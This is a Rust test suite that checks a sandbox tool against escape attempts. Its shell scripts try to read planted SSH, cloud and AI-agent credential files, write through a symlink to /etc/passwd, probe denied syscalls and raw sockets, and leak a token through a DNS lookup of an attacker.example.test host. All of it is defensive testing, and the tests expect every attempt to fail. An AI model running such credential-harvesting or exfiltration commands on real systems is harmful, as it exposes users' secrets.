//! Escape attempts from inside a sandbox (research/sandboxing.md §7): each must fail.
//!
//! Network cases only ever target servers this test starts on 127.0.0.1: a broken
//! sandbox must not be able to send anything off the machine, even by accident.

mod sandbox_support;

use sandbox_support::{is_root, Sandboxes};
use std::io::Read;
use std::net::TcpListener;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

/// A fake host home full of the secrets agents keep, and a project with a `.env`.
fn secret_home(s: &Sandboxes) -> std::path::PathBuf {
    let home = s.tmp.path().join("home");
    for (rel, content) in [
        (".ssh/id_ed25519", "PRIVATE-SSH-KEY"),
        (".aws/credentials", "aws_secret_access_key=AWS-SECRET"),
        (".config/gcloud/credentials.db", "GCLOUD-SECRET"),
        (
            ".claude/.credentials.json",
            "{\"claudeAiOauth\":{\"accessToken\":\"CLAUDE-SECRET\"}}",
        ),
        (".claude.json", "{\"primaryApiKey\":\"CLAUDE-KEY-SECRET\"}"),
        (".codex/auth.json", "{\"OPENAI_API_KEY\":\"CODEX-SECRET\"}"),
        (
            ".local/share/opencode/auth.json",
            "{\"anthropic\":\"OPENCODE-SECRET\"}",
        ),
        ("project/.env", "API_KEY=DOTENV-SECRET"),
        ("project/app.py", "print(1)"),
    ] {
        let path = home.join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, content).unwrap();
    }
    home
}

#[test]
fn host_secrets_are_not_visible() {
    let s = Sandboxes::new();
    let home = secret_home(&s);
    let project = home.join("project");
    let script = format!(
        "for p in {h}/.ssh/id_ed25519 {h}/.aws/credentials {h}/.config/gcloud/credentials.db {h}/.claude/.credentials.json \
         {h}/.claude.json {h}/.codex/auth.json {h}/.local/share/opencode/auth.json {h}/project/.env /workspace/.env \
         /root/.ssh /run/docker.sock /var/run/docker.sock /run/dbus/system_bus_socket {data}; do \
           if cat \"$p\" 2>/dev/null || ls \"$p\" >/dev/null 2>&1; then echo \"VISIBLE $p\"; fi; done; \
         env; ls /home; grep -r SECRET /workspace /home /tmp 2>/dev/null; echo done",
        h = home.display(),
        data = s.data_dir().display()
    );
    let mut cmd = s.cmd(&[
        "run",
        "--workspace",
        project.to_str().unwrap(),
        "--",
        "sh",
        "-c",
        &script,
    ]);
    cmd.env("HOME", &home)
        .env("SSH_AUTH_SOCK", "/tmp/ssh-agent.sock")
        .env("ANTHROPIC_API_KEY", "sk-ant-HOST-ENV-SECRET")
        .env("AWS_SECRET_ACCESS_KEY", "HOST-ENV-SECRET");
    let out = cmd.output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{text} {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(text.ends_with("done\n"), "{text}");
    assert!(!text.contains("VISIBLE"), "{text}");
    assert!(
        !text.contains("SECRET"),
        "a secret leaked into the sandbox:\n{text}"
    );
    assert!(!text.contains("SSH_AUTH_SOCK"), "{text}");
    assert!(text.contains("HOME=/home/sandbox\n"), "{text}");
}

#[test]
fn writes_outside_the_workspace_fail() {
    let s = Sandboxes::new();
    let script = "for p in /usr/evil /etc/evil /bin/evil /opt/evil /evil /proc/evil; do \
        if ( echo x > $p ) 2>/dev/null; then echo \"WROTE $p\"; fi; done; \
        ln -s /etc/passwd /workspace/pw && ( echo owned >> /workspace/pw ) 2>/dev/null && echo WROTE-THROUGH-SYMLINK; \
        ln /etc/passwd /workspace/hard 2>/dev/null && echo HARDLINKED; \
        mknod /workspace/dev c 1 3 2>/dev/null && echo MKNOD; \
        mount -t tmpfs none /tmp 2>/dev/null && echo MOUNTED; \
        echo ok > /workspace/fine && echo ok > /tmp/fine && echo ok > ~/fine && echo writable-ok";
    for (way, code, out, err) in s.both_ways(script) {
        assert_eq!(code, 0, "{way}: {out}{err}");
        assert_eq!(out, "writable-ok\n", "{way}: {err}");
    }
}

/// Tries each denied system call and socket kind, printing `NAME denied` or `NAME ALLOWED`.
const SYSCALL_PROBE: &str = r#"
import ctypes, socket, errno
libc = ctypes.CDLL(None, use_errno=True)
def denied(name, rc):
    e = ctypes.get_errno()
    print(name, 'denied' if rc == -1 and e == errno.EPERM else 'ALLOWED rc=%d errno=%d' % (rc, e))
denied('ptrace', libc.ptrace(16, 1, 0, 0))
denied('process_vm_readv', libc.syscall(310, 1, 0, 0, 0, 0, 0))
denied('io_uring_setup', libc.syscall(425, 8, ctypes.create_string_buffer(128)))
denied('bpf', libc.syscall(321, 0, 0, 0))
denied('keyctl', libc.syscall(250, 0, 0, 0, 0, 0))
for fam, typ, proto, name in [(socket.AF_UNIX, socket.SOCK_STREAM, 0, 'af_unix'), (socket.AF_INET, socket.SOCK_RAW, 1, 'raw_inet'), (socket.AF_PACKET, socket.SOCK_RAW, 0, 'af_packet')]:
    try:
        socket.socket(fam, typ, proto)
        print(name, 'ALLOWED')
    except PermissionError:
        print(name, 'denied')
    except OSError as e:
        print(name, 'ALLOWED-ish errno', e.errno)
"#;

#[test]
fn processes_privileges_and_syscalls_are_confined() {
    let s = Sandboxes::new();
    let me = std::process::id();
    let script = format!(
        "grep -E '^(NoNewPrivs|Seccomp|CapEff|CapPrm):' /proc/self/status; \
         echo procs $(ls /proc | grep -c '^[0-9]'); \
         test -e /proc/{me} && grep -q cargo /proc/{me}/cmdline 2>/dev/null && echo SEES-HOST-PID; \
         kill -0 {me} 2>/dev/null && echo CAN-SIGNAL-HOST; \
         unshare -U true 2>/dev/null && echo NEW-USERNS; \
         python3 -c \"$PROBE\""
    );
    // The probe reaches the command as a variable (`env` inside the sandbox sets it),
    // through a one-shot `run` and through `create` + `exec`.
    let probe = format!("PROBE={SYSCALL_PROBE}");
    let id = s.create(&[]);
    for args in [
        vec!["run", "--", "env", &probe, "sh", "-c", &script],
        vec!["exec", &id, "--", "env", &probe, "sh", "-c", &script],
    ] {
        let out = s.output(&args);
        let (code, out, err) = (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        );
        assert_eq!(code, 0, "{}: {out}{err}", args[0]);
        for line in [
            "NoNewPrivs:\t1",
            "Seccomp:\t2",
            "CapEff:\t0000000000000000",
            "CapPrm:\t0000000000000000",
        ] {
            assert!(out.contains(line), "missing {line:?} in:\n{out}");
        }
        let procs: usize = out
            .lines()
            .find_map(|l| l.strip_prefix("procs "))
            .and_then(|n| n.trim().parse().ok())
            .unwrap_or(999);
        assert!(procs <= 6, "the sandbox sees {procs} processes:\n{out}");
        for bad in ["SEES-HOST-PID", "CAN-SIGNAL-HOST", "NEW-USERNS", "ALLOWED"] {
            assert!(!out.contains(bad), "{bad}:\n{out}");
        }
        for name in [
            "ptrace",
            "process_vm_readv",
            "io_uring_setup",
            "bpf",
            "keyctl",
            "af_unix",
            "raw_inet",
            "af_packet",
        ] {
            assert!(
                out.lines()
                    .any(|l| l.starts_with(name) && l.contains("denied")),
                "{name} not denied:\n{out}"
            );
        }
    }
}

#[test]
fn setuid_binaries_do_not_raise_privileges() {
    let s = Sandboxes::new();
    let Some(setuid) = [
        "/usr/bin/su",
        "/usr/bin/passwd",
        "/usr/bin/mount",
        "/usr/bin/newgrp",
    ]
    .into_iter()
    .find(|p| {
        std::fs::metadata(p)
            .map(|m| std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o4000 != 0)
            .unwrap_or(false)
    }) else {
        eprintln!("no setuid binary on this host; nothing to try");
        return;
    };
    // A setuid-root mount would succeed as root; with no_new_privs and nosuid it cannot.
    let script = format!("cp /bin/sh /tmp/sh && chmod u+s /tmp/sh; /tmp/sh -c 'id -u'; {setuid} --version >/dev/null 2>&1; mount -t tmpfs x /workspace 2>&1 | head -1; id -u");
    let (_, out, _) = s.run_sh(&[], &script);
    let uids: Vec<&str> = out
        .lines()
        .filter(|l| l.chars().all(|c| c.is_ascii_digit()) && !l.is_empty())
        .collect();
    assert!(uids.len() >= 2 && uids.iter().all(|u| *u != "0"), "{out}");
}

/// A loopback server on the host that counts connections.
fn counting_server() -> (u16, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let hits = Arc::new(AtomicUsize::new(0));
    let h = hits.clone();
    std::thread::spawn(move || {
        for conn in listener.incoming().flatten() {
            h.fetch_add(1, Ordering::SeqCst);
            drop(conn);
        }
    });
    (port, hits)
}

#[test]
fn the_host_loopback_is_unreachable() {
    let s = Sandboxes::new();
    let (port, hits) = counting_server();
    let script = format!(
        "bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}' 2>/dev/null && echo DEV-TCP-CONNECTED; \
         curl -s --max-time 3 --noproxy '*' http://127.0.0.1:{port}/ >/dev/null 2>&1 && echo CURL-CONNECTED; \
         python3 -c 'import socket; s=socket.create_connection((\"127.0.0.1\", {port}), 2); print(\"PY-CONNECTED\")' 2>/dev/null; \
         ip -o link 2>/dev/null | awk '{{print $2}}'; cat /proc/net/dev | tail -n +3 | cut -d: -f1; echo end"
    );
    for (way, _, out, _) in s.both_ways(&script) {
        assert!(!out.contains("CONNECTED"), "{way}: {out}");
        let ifaces: Vec<&str> = out
            .lines()
            .map(str::trim)
            .filter(|l| !l.is_empty() && *l != "end")
            .collect();
        assert!(
            ifaces.iter().all(|i| i.trim_end_matches(':') == "lo"),
            "{way}: interfaces besides lo: {ifaces:?}"
        );
    }
    std::thread::sleep(Duration::from_millis(200));
    assert_eq!(
        hits.load(Ordering::SeqCst),
        0,
        "the host server saw a connection from the sandbox"
    );
}

#[test]
fn dns_lookups_go_nowhere() {
    let s = Sandboxes::new();
    // As root we can stand in for the host's resolver on 127.0.0.1:53 and prove nothing reaches it.
    let resolver = if is_root() {
        std::net::UdpSocket::bind("127.0.0.1:53").ok()
    } else {
        None
    };
    let script = "getent hosts sk-ant-secret-token.attacker.example.test && echo RESOLVED; \
        python3 -c 'import socket; socket.getaddrinfo(\"another-secret.attacker.example.test\", 80)' 2>/dev/null && echo PY-RESOLVED; \
        cat /etc/resolv.conf | grep nameserver";
    let (_, out, _) = s.run_sh(&[], script);
    assert!(!out.contains("RESOLVED"), "{out}");
    assert_eq!(
        out.trim(),
        "nameserver 127.0.0.1",
        "the sandbox must have no real resolver: {out}"
    );
    if let Some(sock) = resolver {
        sock.set_nonblocking(true).unwrap();
        let mut buf = [0u8; 512];
        assert!(
            sock.recv_from(&mut buf).is_err(),
            "a DNS query reached the host's loopback resolver"
        );
    }
}

#[test]
fn unix_sockets_and_abstract_sockets_are_unreachable() {
    let s = Sandboxes::new();
    // An abstract socket on the host: a network namespace of its own keeps it out of reach.
    let name = format!("warden-test-{}", std::process::id());
    use std::os::linux::net::SocketAddrExt;
    let listener = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes())
        .and_then(|addr| std::os::unix::net::UnixListener::bind_addr(&addr))
        .ok();
    let script = format!(
        "python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(\"\\0{name}\"); print(\"ABSTRACT-CONNECTED\")' 2>&1 | tail -1; \
         ls /run /var/run 2>&1"
    );
    let (_, out, _) = s.run_sh(&[], &script);
    assert!(!out.contains("ABSTRACT-CONNECTED"), "{out}");
    assert!(
        out.contains("PermissionError") || out.contains("Operation not permitted"),
        "{out}"
    );
    if let Some(l) = listener {
        l.set_nonblocking(true).unwrap();
        assert!(l.accept().is_err(), "the abstract socket got a connection");
    }
    let mut text = String::new();
    let _ = std::io::Cursor::new(out).read_to_string(&mut text);
    assert!(!text.contains("docker.sock"));
}

/// The same sandbox as an unprivileged user: bubblewrap makes a user namespace itself.
#[test]
fn works_as_an_unprivileged_user() {
    if !is_root() {
        // Already unprivileged: every other test here covers this case.
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    std::fs::create_dir(&data).unwrap();
    for p in [dir.path(), data.as_path()] {
        std::os::unix::fs::chown(p, Some(65534), Some(65534)).unwrap();
    }
    let nobody = |args: &[&str]| {
        std::process::Command::new("setpriv")
            .args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
            .arg(env!("CARGO_BIN_EXE_warden"))
            .arg("sandbox")
            .args(args)
            .env("WARDEN_DATA_DIR", &data)
            .env("HOME", dir.path())
            .output()
            .unwrap()
    };
    let probe = nobody(&["run", "--", "true"]);
    if String::from_utf8_lossy(&probe.stderr).contains("Permission denied")
        && !probe.status.success()
    {
        eprintln!(
            "the test binary is not reachable by uid 65534 here; skipped: {}",
            String::from_utf8_lossy(&probe.stderr)
        );
        return;
    }
    let out = nobody(&["run", "--", "sh", "-c", "id -u; grep -E '^(NoNewPrivs|Seccomp):' /proc/self/status; echo x > /etc/x 2>/dev/null || echo ro-ok; python3 -c 'import socket; socket.socket(socket.AF_UNIX)' 2>/dev/null || echo unix-denied"]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{text} {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        text,
        "65534\nNoNewPrivs:\t1\nSeccomp:\t2\nro-ok\nunix-denied\n"
    );
    let created = nobody(&["create", "--pids", "32"]);
    assert!(
        created.status.success(),
        "{}",
        String::from_utf8_lossy(&created.stderr)
    );
    let id = String::from_utf8_lossy(&created.stdout).trim().to_string();
    let exec = nobody(&[
        "exec",
        &id,
        "--",
        "sh",
        "-c",
        "echo in > /workspace/f && cat /workspace/f && id -u",
    ]);
    assert_eq!(
        String::from_utf8_lossy(&exec.stdout),
        "in\n65534\n",
        "{}",
        String::from_utf8_lossy(&exec.stderr)
    );
    let ls = nobody(&["ls"]);
    assert!(
        String::from_utf8_lossy(&ls.stdout).contains("pids=32 (rlimit"),
        "{}",
        String::from_utf8_lossy(&ls.stdout)
    );
    assert!(nobody(&["destroy", &id]).status.success());
    // The supervisor replies to `destroy` and then exits: give it a moment.
    assert!(
        sandbox_support::wait_until(std::time::Duration::from_secs(5), || {
            sandbox_support::processes_mentioning(&id).is_empty()
        }),
        "survivors: {:?}",
        sandbox_support::processes_mentioning(&id)
    );
}
